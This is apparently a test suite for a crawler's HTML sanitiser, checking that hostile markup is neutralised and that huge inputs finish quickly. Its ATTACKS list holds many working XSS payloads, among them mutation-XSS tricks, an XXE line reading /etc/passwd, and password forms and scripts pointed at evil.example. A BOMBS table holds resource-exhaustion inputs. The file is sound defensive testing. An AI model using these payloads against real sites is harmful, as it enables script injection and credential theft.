"""Cleaning hostile HTML: nothing active is left, nothing raises, nothing takes long, and clean stays clean.

The structure is checked on the output with a parser that cleaning does not use (the standard library's).
"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.html import ATTRIBUTES, SCHEMES, TAGS, clean_html
from crawler.text import xml_text

BASE = "http://news.example/stories/one.html"
VOID = {"br", "hr", "img"}
BLOCKS = {"p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "dl", "blockquote", "pre", "table", "figure", "hr"}


class Structure(HTMLParser):
    """Asserts that every tag, attribute and address is an allowed one, and that all elements are closed in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        assert not (tag in BLOCKS and "p" in self.stack), "block inside a paragraph"
        assert not (tag == "a" and "a" in self.stack), "link inside a link"
        assert len({name for name, _ in attrs}) == len(attrs)
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set())
            self.check_value(name, value or "")
        if tag not in VOID:
            self.stack.append(tag)
            assert len(self.stack) < 256

    def check_value(self, name: str, value: str) -> None:
        if name in ("src", "poster", "href"):
            parts = urlsplit(value)
            assert parts.scheme in (SCHEMES if name == "href" else {"http", "https"})
            assert parts.scheme == "mailto" or parts.hostname
            assert value.isascii()
            assert not set(value) & set(" \"'<>`\\\n") - {"'"}
        elif name in ("width", "height", "colspan", "rowspan", "start"):
            assert value.isdecimal()

    def handle_endtag(self, tag: str) -> None:
        assert self.stack.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment: {data[:50]!r}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def check(html: str, base: str = BASE) -> str:
    """Return the cleaned HTML after every check that holds for any input."""
    result = clean_html(html, base)
    structure = Structure()
    structure.feed(result.html)
    structure.close()
    assert structure.stack == []
    assert xml_text(result.html) == result.html
    assert not re.search(r"<(?![/a-z])", result.html)
    again = clean_html(result.html, base)
    assert again.html == result.html
    assert again.images == result.images
    return result.html


ATTACKS = [
    "<script>alert(1)</script>x",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script >alert(1)</script\n>x",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="x" alt="``onerror=alert(1)">',
    '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
    "<img/src/onerror=alert(1)//>",
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)><img src=' &#14; javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 2x' data-src='vbscript:x'>",
    '<img """><script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt&Tab;:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='http://news.example@evil.example/'>x</a>",
    "<a href='http:\\\\evil.example\\x'>x</a>",
    '<a href="mailto:a@b.example?body=<script>">x</a>',
    '<a href="http://a.example/\'><script>alert(1)</script>">x</a>',
    '<a href="http://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
    "<p onclick=alert(1) style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;top:0'>x</div><div style='width:expression(alert(1))'>y</div>",
    "<style>@import 'http://evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>x",
    "<style><img src=x onerror=alert(1)></style>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img src="</noembed><iframe onload=alert(1)>"></noembed>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version='1.0' encoding='utf-7'?>+ADw-script+AD4-alert(1)",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/embed/abcdefgh'></iframe>",
    "<iframe src='https://evil.example/https://www.youtube.com/embed/abcdefgh'></iframe>",
    "<object data=x.swf><embed src=javascript:alert(1)></object><applet code=x></applet>",
    "<form action=//evil.example><input name=password type=password><button>Send</button></form>",
    "<base href='http://evil.example/'><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=javascript:alert(1)></audio>",
    "<video poster=javascript:alert(1) src=//a.example/v.mp4></video>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>a<td>b</table>",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    "<td colspan='2\" onclick=\"alert(1)'>x</td>",
    "<img src=a.jpg width='1\" onload=\"alert(1)' referrerpolicy='\" onload=alert(1)'>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>y</marquee>",
    "<b><i><a href=x><p><b></a></i><table><b><tr><i></table></b>",
    "<a href=1><a href=2><div><a href=3>x</div></a>y",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<p>\ud800\udfff\x00\x0b\ufffe\uffff&#0;&#1;&#xd800;&#xfffe;&#x1ffff;&#x110000;</p>",
    "<p title='\x00'>\x7f\x80\u202eevil</p>",
    "<p/<script>alert(1)</script>",
    "<x onclick=alert(1)>y</x><custom-element onclick=alert(1)>z</custom-element>",
    "<pre>&lt;img src=x onerror=alert(1) referrerpolicy=&quot;no-referrer&quot;&gt;</pre>",
    '<div data-zkinfo=\'{"videoUrl":"javascript:alert(1)","imgUrl":"x&quot;&gt;<script>"}\'>x</div>',
    "<img alt='</p><script>alert(1)</script>' src=a.jpg>",
    "<p>{{constructor.constructor('alert(1)')()}}</p>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_active(attack: str) -> None:
    check(attack)
    check(f"<p>before</p><div>{attack}</div><p>after</p>")
    check(f"<table><tr><td>{attack}</td><td>{attack}</td></tr></table><a href=/x>{attack}</a><pre>{attack}</pre>")


def test_every_fault_of_the_walk_would_be_caught_by_the_sanitiser(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crawler.html._writer.Writer.markup", lambda _: '<p onclick="x">a<script>b</script></p>')
    assert clean_html("anything", BASE).html == "<p>a</p>"


@pytest.mark.parametrize("base", ["", "not a url", "javascript:alert(1)", "http://[", "data:text/html,x"])
def test_a_bad_base_costs_the_relative_addresses_only(base: str) -> None:
    html = "<a href=x>a</a><img src=y.jpg><img src=http://pics.example/1.jpg>"
    assert check(html, base) == '<p>a<img src="http://pics.example/1.jpg"></p>'


NAMES = """
    p div span b i strong a ul ol li table tr td th tbody thead caption h1 h3 br img pre code blockquote figure
    figcaption dl dt dd font section noscript picture source iframe embed video hr script style form svg math textarea
    ruby rt center select option template title xmp
""".split()  # noqa: SIM905  (a table, read as one)
ATTRIBUTE_TEXT = [
    'href="/x?utm_a=1&b=2"',
    'href="javascript:1"',
    'href="mailto:a@b.example"',
    'src="a.jpg"',
    'src="b.jpg"',
    'data-original="//h.example/a.gif"',
    'srcset="q.jpg 1x, r.jpg 2x"',
    'src="//v.qq.com/x?vid=abc"',
    'src="https://www.youtube.com/embed/abcdefgh"',
    'class="lazy"',
    'class="gutter"',
    "width=100",
    "width=1",
    "colspan=2",
    "start=3",
    "onclick",
    'alt="x &quot;&lt;&nbsp;"',
    'poster="/p.png"',
    "referrerpolicy=no-referrer",
    'data-zkinfo="%7B%22videoUrl%22%3A%22http%3A%2F%2Fa.example%2Fv.mp4%22%7D"',
]
WORDS = ["a", "b c", " ", "\n", "&nbsp;", "\u3000", "中文", "中\n文", "&lt;b&gt;", "&amp;amp;", "x  y", "&#1;", "&#13;"]
WORDS += ["\u200b", "<!-- c -->", "&#xfffe;", "</p>", "</b>", "<", "</a>", "</table>", "<![CDATA[x]]>", "]]>"]
OPENING = st.builds(
    lambda name, attributes: f"<{name} {' '.join(attributes)}>",
    st.sampled_from(NAMES),
    st.lists(st.sampled_from(ATTRIBUTE_TEXT), max_size=3),
)
SOUP = st.lists(
    st.one_of(
        OPENING, OPENING, st.sampled_from(WORDS), st.sampled_from(NAMES).map("</{}>".format), st.text(max_size=5)
    ),
    max_size=25,
).map("".join)


@given(SOUP)
def test_any_soup_of_tags_comes_out_clean_and_stays_so(soup: str) -> None:
    check(soup)


@given(st.text(st.characters(exclude_categories=()), max_size=200))
def test_any_text_comes_out_clean(text: str) -> None:
    check(text)


@given(st.lists(st.sampled_from(["今天", " ", "&amp;", "&lt;i&gt;", "x", "。"]), max_size=20).map("".join))
def test_text_is_neither_lost_nor_decoded_twice(text: str) -> None:
    shown = text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert clean_html(f"<p>{text}</p>", BASE).text.split() == shown.split()


BOMBS = {
    "angle brackets": "<" * 1_000_000,
    "ampersands": "&" * 1_000_000,
    "references": "&#" * 500_000,
    "open tags": "<a " * 333_000,
    "one tag of many attributes": "<p " + " ".join(f"a{n}=1" for n in range(100_000)),
    "one attribute of a megabyte": f"<img src='{'a' * 1_000_000}'>",
    "inline picture of a megabyte": f"<img src='data:image/png;base64,{'A' * 1_000_000}'><p>after</p>",
    "comments": "<!--" * 250_000,
    "closing tags": "</p>" * 250_000,
    "paragraphs": "<p>x" * 250_000,
    "links": "<a href=/x>x" * 80_000,
    "pictures": "".join(f"<img src=/{n}.jpg>" for n in range(60_000)),
    "srcset": f"<img srcset='{'a 1x,' * 200_000}'>",
    "commas in srcset": f"<img srcset='{',' * 1_000_000}'>",
    "nested blocks": "<div>" * 20_000 + "x" + "</div>" * 20_000,
    "nested formatting": "<b><i>x" * 140_000,
    "nested lists": "<ul><li>" * 120_000,
    "nested tables": "<table><tr><td><td>" * 50_000,
    "nested quotations": "<blockquote>" * 80_000 + "x",
    "line breaks": "<br>x" * 200_000,
    "blanks": "a" + "\n " * 500_000 + "b",
    "listing": "<pre>" + "<span>x" * 120_000,
    "escaped listing": '<pre>&lt;img referrerpolicy="no-referrer"' + "&lt;" * 240_000,
    "a long link around many paragraphs": f"<a href='/{'a' * 7000}'>" + "<p>x" * 240_000,
    "frames": "<iframe src='https://www.youtube.com/embed/abcdefgh'></iframe>" * 15_000,
    "paths": "<a href='" + "/.." * 2000 + "'>x",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_megabyte_of_anything_takes_about_a_second_at_worst(name: str) -> None:
    started = time.process_time()
    result = clean_html(BOMBS[name], BASE)
    assert time.process_time() - started < 2  # half a second at most where nothing else runs
    assert len(result.html) <= 300_000
    assert clean_html(result.html, BASE).html == result.html


def test_twenty_thousand_levels_do_not_hide_what_follows_a_sane_depth() -> None:
    assert check("<div>" * 500 + "<p>deep</p>" + "</div>" * 500 + "<p>after</p>") == "<p>deep</p><p>after</p>"
    check("<div>" * 20_000 + "x" + "</div>" * 20_000)
    assert check("<blockquote>" * 500 + "x").count("<blockquote>") == 30


def test_a_picture_of_a_megabyte_in_the_text_does_not_cut_the_text() -> None:
    html = f"<p>before</p><img src='data:image/png;base64,{'A' * 1_000_000}'><p>after</p>"
    assert check(html) == "<p>before</p><p>after</p>"


# Real pages, where they are at hand


POSTS = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "rsshub-page"


@pytest.mark.skipif(not POSTS.is_dir(), reason="no recorded posts beside the checkout")
def test_recorded_bodies_come_out_clean_and_whole() -> None:
    posts = [path.read_text(encoding="utf-8") for path in sorted(POSTS.glob("*.md"))]
    bodies = [post.split("\n---\n", 2)[-1] for post in posts]
    assert bodies
    for body in bodies:
        html = check(body)
        assert "data-" not in html
        assert "workers.dev" not in html
        assert "<p></p>" not in html
